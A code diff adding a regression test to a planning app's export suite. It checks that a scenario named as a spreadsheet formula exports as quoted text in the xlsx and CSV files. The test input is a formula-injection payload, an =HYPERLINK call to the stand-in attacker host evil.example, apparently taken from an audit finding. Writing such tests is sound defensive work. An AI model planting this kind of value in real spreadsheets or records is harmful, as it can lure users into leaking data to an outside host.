@@ -210,3 +210,16 @@ def test_compare_two_scenarios(client, make_user, make_scenario):
     names = {row[0].value for row in wb["DSG position"].iter_rows(min_row=2)}
     assert names == {"Alpha", "Beta"}
     assert client.get(f"/planning/compare/export.csv?scenarios={a.pk}").status_code == 404
+
+
+def test_a_scenario_named_as_a_formula_exports_as_text(client, make_user, make_scenario):
+    """Finding 5: the scenario name =HYPERLINK(...) became a live formula in the xlsx and the CSV."""
+    name = '=HYPERLINK("http://evil.example/?leak","Open")'
+    scenario = make_scenario(name=name)
+    signed_in(client, make_user, "finance")
+    wb = load_workbook(io.BytesIO(client.get(f"/planning/scenarios/{scenario.pk}/export.xlsx").content))
+    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
+    assert not any(c.data_type == "f" or c.value.startswith("=") for c in cells)
+    assert wb["DSG position"].cell(2, 1).value == "'" + name
+    rows = list(csv.DictReader(io.StringIO(client.get(f"/planning/scenarios/{scenario.pk}/export.csv").content.decode())))
+    assert rows[0]["scenario"] == "'" + name
